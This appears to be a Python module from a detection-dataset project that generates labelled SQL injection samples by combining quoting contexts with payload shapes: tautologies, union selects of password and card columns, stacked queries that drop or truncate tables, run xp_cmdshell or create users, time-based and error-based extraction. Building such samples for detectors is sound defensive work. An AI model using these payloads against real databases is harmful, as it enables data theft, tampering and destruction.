"""SQL injections by grammar: a value, a way out of its context, what is added, and what is done with the rest."""

from __future__ import annotations

from collections.abc import Callable, Iterator

from .samples import Dice, Sample

_CONTEXTS = {"number": "", "single quote": "'", "double quote": '"', "backtick": "`"}
_TABLES = (
    "users",
    "accounts",
    "cards",
    "payments",
    "information_schema.tables",
    "pg_shadow",
    "sys.objects",
    "all_tables",
)
_COLUMNS = ("id", "name", "password", "email", "card_number", "balance", "table_name", "is_admin")
_VALUES = ("version()", "user()", "@@version", "current_user", "database()", "null", "1", "'a'", "0x61", "pg_sleep(0)")


def _condition(dice: Dice) -> str:
    number, word = dice.number(), dice.word()
    return dice.choice(
        (
            f"{number}={number}",
            f"{number} = {number}",
            f"'{word}'='{word}'",
            f"{number}<{int(number) + 1}",
            f"{number} between 1 and 99999",
            f"{number} in ({number})",
            f"'{word}' like '{word[:1]}%'",
            f"not {number}={int(number) + 1}",
            f"length('{word}')={len(word)}",
            f"exists(select {number} from {dice.choice(_TABLES)})",
            f"{dice.choice(_COLUMNS)} is not null and {number}={number}",
            f"({number})=({number})",
            f"ascii(substr((select {dice.choice(_COLUMNS)} from {dice.choice(_TABLES)} limit 1),1,1))>{number}",
        )
    )


def _tautology(dice: Dice) -> str:
    operator = dice.choice(("or", "or", "and", "||", "&&", "xor"))
    return f" {operator} {_condition(dice)}"


def _union(dice: Dice) -> str:
    columns = ",".join(dice.choice((*_VALUES, *_COLUMNS)) for _ in range(dice.randint(2, 9)))
    source = f" from {dice.choice(_TABLES)}" if dice.random() < 0.7 else ""
    return f" union {dice.maybe('all ')}select {columns}{source}"


def _stacked(dice: Dice) -> str:
    table, column = dice.choice(_TABLES), dice.choice(_COLUMNS)
    return "; " + dice.choice(
        (
            f"drop table {table}",
            f"delete from {table}",
            f"update {table} set {column}={dice.number()} where {column}={dice.number()}",
            f"insert into {table} ({column}) values ('{dice.word()}')",
            f"exec xp_cmdshell('{dice.word()}')",
            f"declare @{dice.word()} varchar(99)",
            f"select pg_sleep({dice.number(20)})",
            f"waitfor delay '0:0:{dice.number(30)}'",
            f"create user {dice.word()} identified by '{dice.word()}'",
            f"truncate table {table}",
            f"copy {table} to '/tmp/{dice.word()}'",
            "shutdown",
        )
    )


def _timed(dice: Dice) -> str:
    seconds = dice.number(20)
    return f" {dice.choice(('and', 'or'))} " + dice.choice(
        (
            f"sleep({seconds})",
            f"(select {seconds} from (select(sleep({seconds}))){dice.word()})",
            f"{seconds}=(select {seconds} from pg_sleep({seconds}))",
            f"benchmark({dice.number()}000,md5({seconds}))",
            f"{seconds}=dbms_pipe.receive_message('{dice.word()}',{seconds})",
            f"if({seconds}={seconds},sleep({seconds}),0)",
        )
    )


def _erring(dice: Dice) -> str:
    inner = f"(select {dice.choice(_COLUMNS)} from {dice.choice(_TABLES)} limit 1)"
    return f" {dice.choice(('and', 'or'))} " + dice.choice(
        (
            f"extractvalue({dice.number()},concat(0x7e,{inner}))",
            f"updatexml(1,concat(0x3a,{inner}),1)",
            f"{dice.number()}=cast({inner} as int)",
            f"{dice.number()}=convert(int,{inner})",
            f"(select {dice.number()} from(select count(*),concat({inner},floor(rand(0)*2))x from {dice.choice(_TABLES)} group by x)a)",
        )
    )


def _clause(dice: Dice) -> str:
    return dice.choice((f" order by {dice.number(30)}", f" group by {dice.number(9)} having 1=1", " having 1=1"))


_SHAPES: dict[str, Callable[[Dice], str]] = {
    "tautology": _tautology, "union": _union, "stacked": _stacked, "time": _timed, "error": _erring, "clause": _clause,
}  # fmt: skip


def _rest(dice: Dice, quote: str, shape: str) -> str:
    """What becomes of the rest of the query: commented out, or made to fit."""
    comments = ("--", "-- ", "-- -", "#", "--+", "/*", ";--", ";#", "-- " + dice.word())
    if quote and (shape in ("union", "stacked", "clause") or dice.random() < 0.6):
        return dice.choice(comments)
    if quote:
        word = dice.word()
        return f" and {quote}{word}{quote}={quote}{word}"
    return dice.maybe(dice.choice(comments), 0.6)


def _spaced(dice: Dice, text: str) -> str:
    """Spaces as the dialects have them."""
    gap = dice.choice((" ", " ", " ", "/**/", "\t", "\n", "  ", "+", "/*" + dice.word() + "*/", "\x0c"))
    return text if gap == "+" and "+" in text else text.replace(" ", gap)


def injection(dice: Dice, context: str, shape: str) -> str:
    """An injection of a shape out of a context."""
    quote = _CONTEXTS[context]
    value = dice.choice(("", dice.number(), "-1", dice.word())) if quote else dice.choice((dice.number(), "-1", "0"))
    closing = dice.choice(("", "", "", ")", "))"))
    body = dice.cased(_SHAPES[shape](dice))
    rest = _rest(dice, quote, shape)
    return f"{value}{quote}{closing}{_spaced(dice, body)}{rest}"


def injections(dice: Dice, each: int) -> Iterator[Sample]:
    """``each`` of every shape out of every context."""
    for context in _CONTEXTS:
        for shape in _SHAPES:
            for _ in range(each):
                yield Sample(injection(dice, context, shape), "sqli", context)
